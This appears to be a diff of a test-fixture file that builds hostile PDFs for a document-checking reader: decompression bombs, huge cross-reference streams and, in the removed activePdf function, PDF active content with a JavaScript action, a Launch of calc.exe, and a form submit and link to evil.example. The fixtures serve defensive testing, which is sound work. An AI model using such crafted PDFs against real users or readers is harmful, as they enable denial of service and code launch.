@@ -4,6 +4,7 @@
  */
 import { constants, deflateRawSync, deflateSync } from 'node:zlib';
 
+import { activePdf } from './active-pdf.ts';
 import { CATALOG, ONE_PAGE, page, rawPdf, rawStream, slip } from './slips.ts';
 import type { VoucherCondition } from '../../src/store/schema-vouchers.ts';
 
@@ -29,6 +30,11 @@ function packedZeros(megabytes: number): Uint8Array {
     Buffer.from(last),
   );
 }
+/** The pointer at the end leads there instead. */
+function beginningAt(marker: string, pdf: Uint8Array): Uint8Array {
+  const latin1 = Buffer.from(pdf).toString('latin1');
+  return text(latin1.replace(/startxref\n\d+/, `startxref\n${latin1.indexOf(marker)}`));
+}
 const content = rawStream('', text('BT ET'));
 
 /** Object streams whose unpacking takes a gigabyte: 1 MB on the wire. */
@@ -39,7 +45,7 @@ function objectStreamBomb(): Uint8Array {
 
 /** Resources nested as a chain of objects. */
 function longChain(links: number): Uint8Array {
-  const chain = Array.from({ length: links }, (_, at) => `<< /Next ${at + 5} 0 R >>`);
+  const chain = Array.from({ length: links }, (_, at) => `<< /Function ${at + 5} 0 R >>`);
   return rawPdf([CATALOG, ONE_PAGE, page('/Resources << /Properties << /P 4 0 R >> >>'), ...chain, '<< >>']);
 }
 
@@ -85,27 +91,31 @@ const SLOW_OR_LARGE: readonly HostileFile[] = [
   {
     name: '4 MB of words before the first object',
     bytes: () => text(`%PDF-1.7\n${'a '.repeat(2_000_000)}${END}`),
-    condition: 'hostile',
-    remark: /within 3 s/,
+    condition: 'damaged',
+    remark: /no catalog/,
   },
   {
     name: 'an object stream of 1 GB',
     bytes: objectStreamBomb,
     condition: 'hostile',
-    remark: /within 3 s|more than 256 MB/,
+    remark: /unpacks to more than 128 MB|more than 256 MB/,
   },
   {
     name: 'a cross-reference stream that lists a billion objects',
     bytes: () =>
-      rawPdf([
-        CATALOG,
-        ONE_PAGE,
-        page('/Contents 5 0 R'),
-        rawStream('/Type /XRef /Size 1000000000 /W [1 1 1] /Index [0 1000000000]', Buffer.alloc(30)),
-        content,
-      ]),
-    condition: 'hostile',
-    remark: /within 3 s|more than 256 MB|made the reader fail/,
+      beginningAt(
+        '4 0 obj',
+        rawPdf([
+          CATALOG,
+          ONE_PAGE,
+          page('/Contents 5 0 R'),
+          rawStream('/Type /XRef /Size 1000000000 /W [1 1 1] /Index [0 1000000000]', Buffer.alloc(30)),
+          content,
+        ]),
+      ),
+    condition: 'whole',
+    remark: /^$/,
+    pages: 1,
   },
   {
     name: '200,000 page references',
@@ -260,40 +270,5 @@ const ACTIVE: readonly HostileFile[] = [
     pages: 1,
   },
 ];
-
-/** One page with every kind of active content the format knows, and a form field whose appearance is to stay. */
-export function activePdf(): Uint8Array {
-  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
-  const program = '<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>';
-  const link =
-    '<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (http://evil.example) >> >>';
-  const sending =
-    '<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [10 10 90 30] /AP << /N 8 0 R >> ' +
-    '/A << /S /SubmitForm /F (http://evil.example) >> /AA << /E 6 0 R >> >>';
-  const carrying = '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 9 0 R /A 7 0 R >>';
-  const appearance = rawStream(
-    '/Type /XObject /Subtype /Form /BBox [0 0 80 20] /PieceInfo << /X << /JS (x) >> >> /Resources << /Font << /JS 12 0 R >> >>',
-    text('0 0 80 20 re f'),
-  );
-  return rawPdf([
-    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [5 0 R] /XFA (x) >> ' +
-      '/Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(f) 9 0 R] >> >> >>',
-    ONE_PAGE,
-    page(
-      '/Contents 4 0 R /AA << /O 6 0 R >> /Annots [5 0 R 11 0 R 13 0 R] /Metadata 10 0 R ' +
-        '/Resources << /Font << /A 12 0 R >> /Properties << /M << /AA 6 0 R /F 9 0 R >> >> >>',
-    ),
-    rawStream('', text('BT /A 12 Tf 40 200 Td (ACTIVE 1/1) Tj ET')),
-    sending,
-    script,
-    program,
-    appearance,
-    '<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>',
-    rawStream('/Type /EmbeddedFile', text('MZ')),
-    link,
-    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
-    carrying,
-  ]);
-}
 
 export const CORPUS: readonly HostileFile[] = [...NO_PDF, ...SLOW_OR_LARGE, ...LOOPS, ...BROKEN, ...ACTIVE];
